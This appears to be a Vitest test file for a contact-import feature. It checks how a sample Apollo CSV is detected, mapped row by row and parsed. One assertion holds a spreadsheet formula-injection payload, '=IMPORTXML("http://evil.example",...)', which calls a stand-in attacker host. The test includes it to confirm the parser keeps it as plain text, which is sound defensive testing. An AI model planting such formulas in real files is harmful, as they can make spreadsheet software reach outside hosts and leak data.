import { createReadStream } from "node:fs";
import path from "node:path";
import { describe, expect, it } from "vitest";
import { mapRow } from "./map-row";
import { openCsv } from "./parse/read-csv";
import { detectPreset } from "./presets/detect";
import { IMPORT_MAX_BYTES, type ImportMapping } from "./types";

/**
 * The sample file the Imports page offers and the README and e2e use: an Apollo export with a
 * few bad rows. Its expected outcome on an empty workspace (rule: skip) is 6 inserted, 0
 * updated, 1 skipped (row 7 repeats row 1's email in other case and spacing), 3 failed
 * (rows 5 and 9: invalid email; row 6: no email and no LinkedIn URL). The duplicate is decided
 * by the job; this test pins what the parser, the preset and mapRow make of each row.
 */
const SAMPLE = path.resolve(import.meta.dirname, "../../public/samples/apollo-contacts-sample.csv");

async function readSample(): Promise<string[][]> {
  const csv = await openCsv(createReadStream(SAMPLE), { maxBytes: IMPORT_MAX_BYTES });
  const records: string[][] = [];
  for await (const record of csv.records) records.push(record as string[]);
  expect(csv.encoding).toBe("utf-8");
  expect(csv.delimiter).toBe(",");
  return records;
}

describe("the sample Apollo file", () => {
  it("is detected as an Apollo export and maps each row as its bad rows intend", async () => {
    const [headers, ...rows] = await readSample();
    expect(rows).toHaveLength(10);
    const detected = detectPreset(headers!);
    expect(detected.id).toBe("apollo");
    const mapping: ImportMapping = { columns: detected.columns };
    const outcomes = rows.map((fields) => {
      const mapped = mapRow(fields, mapping, headers);
      return mapped.kind === "lead" ? "lead" : `${mapped.kind}:${mapped.reason}`;
    });
    expect(outcomes).toEqual([
      "lead",
      "lead",
      "lead",
      "lead",
      "failed:invalid_email",
      "failed:no_identity",
      "lead", // the job skips it: the same email as row 1
      "lead",
      "failed:invalid_email",
      "lead",
    ]);
  });

  it("keeps accents, a quoted comma, a quoted newline and a formula-looking value as written", async () => {
    const [, ...rows] = await readSample();
    expect(rows[0]!.slice(0, 2)).toEqual(["Zoë", "Ångström"]);
    expect(rows[1]![3]).toBe("Cobalt Systems, Inc.");
    expect(rows[2]![2]).toBe("VP Marketing\nEMEA");
    expect(rows[3]![2]).toBe('=IMPORTXML("http://evil.example","//a")');
    expect(rows[6]![5]).toBe(" ZOE.ANGSTROM@Nordlys-Analytics.example ");
  });
});
